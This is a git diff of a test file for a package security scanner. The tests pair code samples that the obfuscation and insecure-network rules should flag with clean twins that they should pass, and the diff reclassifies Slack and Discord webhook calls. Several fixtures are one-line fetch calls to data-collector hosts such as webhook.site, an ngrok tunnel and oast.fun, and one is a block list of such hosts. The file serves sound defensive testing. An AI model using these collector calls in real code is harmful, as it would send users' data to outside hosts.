@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the samples are sources with templates
 /** Matched pairs for the rules about code: each poisoned variant is found by its rule, its clean twin by none. */
 import { describe, expect, it } from 'vitest';
 import type { Permissions } from '../../../schemas/package-json.ts';
@@ -522,6 +523,8 @@ describe('code/obfuscated', () => {
     ['variation selectors', `const s = 'a${'\ufe01\ufe0c\ufe03'.repeat(4)}';`],
   ]);
   clean([
+    ['minified beside its readable twin', { 'v/pad.min.js': minified, 'v/pad.js': 'export const a = 1;' }],
+    ['the flag of Scotland', `export const f = '\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}';`],
     ['minified beside its source', { 'dist/tool.js': minified, 'src/tool.ts': 'export const a = 1;' }],
     [
       'Chinese as escapes',
@@ -678,7 +681,12 @@ describe('code/insecure', () => {
     ['a collector', 'fetch(`https://webhook.site/${id}`);', { network: ['webhook.site'] }],
     ['a tunnel', `fetch('https://abc.ngrok-free.app/x');`, { network: ['*.ngrok-free.app'] }],
     ['a collector that is only a constant', `export const SINK = 'https://abc.oast.fun/x';`],
-    ['a chat that is not declared', `fetch('https://discord.com/api/webhooks/1/x');`, { network: ['*'] }],
+    [
+      'a webhook of a chat, declared or not',
+      `fetch('https://hooks.slack.com/services/' + process.env.SLACK_PATH);`,
+      { network: ['hooks.slack.com'], env: ['SLACK_PATH'] },
+    ],
+    ['a webhook below a host with other uses', `fetch('https://discord.com/api/webhooks/1/x');`, { network: ['*'] }],
   ]);
   clean([
     ['certificates checked', `import https from 'https'; new https.Agent({ rejectUnauthorized: true, ca });`],
@@ -688,11 +696,7 @@ describe('code/insecure', () => {
       { network: ['localhost'] },
     ],
     ['a private network', `fetch('http://192.168.1.10/api');`, { network: ['192.168.1.10'] }],
-    [
-      'a chat that is declared',
-      `fetch('https://hooks.slack.com/services/' + process.env.SLACK_PATH);`,
-      { network: ['hooks.slack.com'], env: ['SLACK_PATH'] },
-    ],
+    ['an API of the same host', `fetch('https://discord.com/api/v10/gateway');`, { network: ['discord.com'] }],
     ['a list of names without a scheme', `export const BLOCKED = ['webhook.site', 'pastebin.com', 'bit.ly'];`],
     [
       'a name that only ends alike',
